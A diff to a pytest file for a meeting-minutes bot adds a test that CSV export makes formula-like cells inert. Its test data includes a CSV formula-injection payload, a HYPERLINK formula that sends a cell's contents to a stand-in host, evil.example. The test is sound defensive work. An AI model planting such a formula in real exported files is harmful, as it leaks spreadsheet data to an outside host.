@@ -15,7 +15,7 @@ from pathlib import Path
 import pytest
 from sqlalchemy import delete, inspect, text, update
 
-from bot import minutes_service
+from bot.desk import minutes as minutes_service
 from bot.minutes_files import (
     CJK_FONT_PATH,
     FORMATS,
@@ -494,3 +494,20 @@ def test_chat_text_has_the_vote_table_but_no_signature_lines(civil278):
     text = to_text(minutes_for(civil278), "zh_Hans")
     assert "#1｜" in text and "3户 299㎡" in text
     assert "签字" not in text and civil278.head not in text
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_made_inert(civil278):
+    """issue 12 #8: a motion worded "=HYPERLINK(...)" must reach Excel as text, not as a formula."""
+    minutes = minutes_for(civil278)
+    texts = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "@SUM(1)", "-1+2", "\t=1", "普通议题"]
+    motions = [replace(m, text=text) for m, text in zip(minutes.motions, texts, strict=False)]
+    data = to_csv(replace(minutes, motions=motions), "zh_Hans")
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+    cells = [r["议题内容（最终表述）"] for r in rows if r["记录类型"] == "议题"]
+    assert len(minutes.motions) == len(texts)
+    assert cells == ["'" + t for t in texts[:-1]] + ["普通议题"]
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+    shelter_vote = rows[1]
+    assert shelter_vote["赞成面积(㎡)"] == "299"  # numbers are left as they are
